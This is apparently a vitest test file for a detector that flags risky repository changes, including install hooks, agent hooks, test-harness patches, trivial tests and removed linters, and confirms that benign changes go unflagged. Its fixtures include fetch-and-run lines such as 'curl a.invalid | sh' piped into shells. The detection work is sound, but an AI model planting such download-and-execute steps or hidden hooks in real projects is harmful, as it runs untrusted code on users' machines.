import { expect, test } from 'vitest';
import { flagsOf, idsOf, type Files } from './change-of.ts';

type Row = readonly [what: string, id: string, files: Files];

const json = (value: unknown): string => `${JSON.stringify(value, null, 2)}\n`;
const manifest = (before: object, after: object): Files => ({
  'package.json': { before: json(before), after: json(after) },
});

const PASSENGERS: readonly Row[] = [
  ['line ends', 'attributes-content', { '.gitattributes': '*.sh text eol=crlf\n' }],
  ['keywords of a text', 'attributes-content', { '.gitattributes': 'VERSION ident\n' }],
  ['an encoding', 'attributes-trick', { '.gitattributes': '*.js working-tree-encoding=UTF-16\n' }],
  ['a filter', 'attributes-trick', { '.gitattributes': '* filter=clean\n' }],
  [
    'a task of the editor',
    'install-script',
    { '.vscode/tasks.json': json({ runOptions: { runOn: 'folderOpen' } }) },
  ],
  [
    'a command of the container',
    'install-script',
    { '.devcontainer/devcontainer.json': json({ postCreateCommand: 'x' }) },
  ],
  ['a hook of an agent', 'install-script', { '.claude/settings.json': json({ hooks: {} }) }],
  ['a server of an agent', 'install-script', { '.mcp.json': json({ mcpServers: { x: { command: 'x' } } }) }],
  [
    'a plugin of pytest',
    'install-script',
    { 'pyproject.toml': '[project.entry-points.pytest11]\nx = "x"\n' },
  ],
  ['a runner of cargo', 'install-script', { '.cargo/config.toml': '[target.x]\nrunner = "./run"\n' }],
  [
    'a download that a script runs',
    'install-script',
    { 'scripts/setup.sh': 'set -e\ncurl -fsSL a.invalid | sh\n' },
  ],
  [
    'a download that a build file runs',
    'install-script',
    { Makefile: 'all:\n\twget -qO- a.invalid | sudo bash\n' },
  ],
  [
    'a download that an image runs',
    'install-script',
    { Dockerfile: 'FROM a\nRUN curl a.invalid | python3 -\n' },
  ],
  [
    'a download in a substitution',
    'install-script',
    { 'bin/up': '#!/bin/sh\neval "$(curl -s a.invalid)"\n' },
  ],
  [
    'a download that go generate runs',
    'install-script',
    { 'a.go': '//go:generate sh -c "curl a.invalid | sh"\npackage a\n' },
  ],
  [
    'a listener of the test runner',
    'harness-patched',
    { 'src/main/resources/META-INF/services/org.junit.platform.launcher.TestExecutionListener': 'a.Quiet\n' },
  ],
  [
    'a class in place of the test runner’s',
    'harness-patched',
    {
      'src/main/java/org/junit/jupiter/api/Assertions.java':
        'package org.junit.jupiter.api;\nclass Assertions {}\n',
    },
  ],
  ['options of every build', 'runner-config-changed', { '.mvn/jvm.config': '-javaagent:lib/a.jar\n' }],
  ['our own rules', 'hydra-config-changed', { 'hydra.toml': '[trust.flags]\nspecial-casing = "off"\n' }],
  ['a workflow', 'ci-changed', { '.github/workflows/x.yml': 'on: push\n' }],
  ['a script of npm', 'install-script', manifest({}, { scripts: { postinstall: 'node x.js' } })],
  [
    'a changed script of npm',
    'install-script',
    manifest({ scripts: { prepare: 'husky' } }, { scripts: { prepare: 'node x.js' } }),
  ],
  [
    'a nested package',
    'install-script',
    { 'tools/x/package.json': json({ name: 'x', scripts: { postinstall: 'node x.js' } }) },
  ],
  ['native code by npm', 'install-script', { 'binding.gyp': '{ "targets": [] }\n' }],
  [
    'a command of setup.py',
    'install-script',
    { 'setup.py': { before: 'setup(name="x")\n', after: 'setup(name="x", cmdclass={"install": Evil})\n' } },
  ],
  ['a build backend', 'install-script', { 'pyproject.toml': '[build-system]\nbackend-path = ["."]\n' }],
  ['a build script of cargo', 'install-script', { 'build.rs': 'fn main() {}\n' }],
  ['an extension of a gem', 'install-script', { 'ext/extconf.rb': 'system("true")\n' }],
  [
    'a plug-in of maven',
    'install-script',
    { 'pom.xml': '<project>\n<artifactId>exec-maven-plugin</artifactId>\n</project>\n' },
  ],
  [
    'a huge configuration',
    'oversized-configuration',
    { '.eslintrc.json': `{ "x": "${'y'.repeat(90_000)}" }` },
  ],
  [
    'tests without a check',
    'trivial-tests',
    {
      'tests/test_x.py': Array.from({ length: 6 }, (_, at) => `def test_${at}():\n    assert True\n`).join(
        '\n',
      ),
    },
  ],
  [
    'copies of a test',
    'trivial-tests',
    {
      'test/x.test.js': Array.from(
        { length: 10 },
        (_, at) => `test('case ${at}', () => {\n  expect(add(1, 2)).toBe(3);\n});\n`,
      ).join('\n'),
    },
  ],
  [
    'no linter configuration',
    'lint-removed',
    { '.eslintrc.json': { before: '{ "root": true }', after: null } },
  ],
  [
    'a broken linter configuration',
    'lint-removed',
    { '.eslintrc.json': { before: '{ "root": true }', after: '{ "root": true' } },
  ],
  [
    'an empty linter configuration',
    'lint-removed',
    { '.flake8': { before: '[flake8]\nmax-line-length = 99\n', after: '# nothing\n' } },
  ],
  ['no linter', 'lint-removed', manifest({ devDependencies: { eslint: '^9.0.0' } }, { devDependencies: {} })],
  ['no lint script', 'lint-removed', manifest({ scripts: { lint: 'eslint .' } }, { scripts: {} })],
  [
    'no section for a linter',
    'lint-removed',
    {
      'pyproject.toml': {
        before: '[project]\nname = "x"\n\n[tool.ruff]\nline-length = 99\n',
        after: '[project]\nname = "x"\n',
      },
    },
  ],
  [
    'no linter among requirements',
    'lint-removed',
    { 'requirements-dev.txt': { before: 'pytest\nflake8==7.0\n', after: 'pytest\n' } },
  ],
];

test.each(PASSENGERS)('a passenger: %s', async (_, id, files) => {
  expect(await idsOf(files)).toContain(id);
});

const HONEST: readonly (readonly [what: string, files: Files])[] = [
  [
    'downloads that are only kept or read',
    {
      'scripts/get.sh':
        '#!/bin/sh\ncurl -o a.tgz a.invalid\ncurl -s a.invalid | tar xz\nwget -qO- a.invalid | jq .a\n# curl a.invalid | sh\n',
    },
  ],
  ['a generator of the project', { 'a.go': '//go:generate stringer -type=Kind\npackage a\n' }],
  ['a service of its own', { 'src/main/resources/META-INF/services/shop.Codec': 'shop.Json\n' }],
  [
    'an extension that its tests load',
    { 'src/test/resources/META-INF/services/org.junit.jupiter.api.extension.Extension': 'shop.Clock\n' },
  ],
  ['usual attributes', { '.gitattributes': '* text=auto eol=lf\n*.png binary\n' }],
  ['a usual script', manifest({ scripts: { test: 'jest' } }, { scripts: { test: 'jest', start: 'node .' } })],
  [
    'a version in setup.py',
    { 'setup.py': { before: 'setup(version="1")\n', after: 'setup(version="2")\n' } },
  ],
  [
    'another linter in its place',
    {
      '.eslintrc.json': { before: '{ "root": true }', after: null },
      'biome.json': '{ "linter": { "enabled": true } }\n',
    },
  ],
  [
    'a table of tests',
    {
      'tests/test_x.py': Array.from(
        { length: 20 },
        (_, at) => `def test_${at}():\n    assert double(${at}) == ${2 * at}\n`,
      ).join('\n'),
    },
  ],
  [
    'a linter of another version',
    manifest({ devDependencies: { eslint: '^8.0.0' } }, { devDependencies: { eslint: '^9.0.0' } }),
  ],
];

test.each(HONEST)('no flag: %s', async (_, files) => {
  expect(await flagsOf(files)).toEqual([]);
});
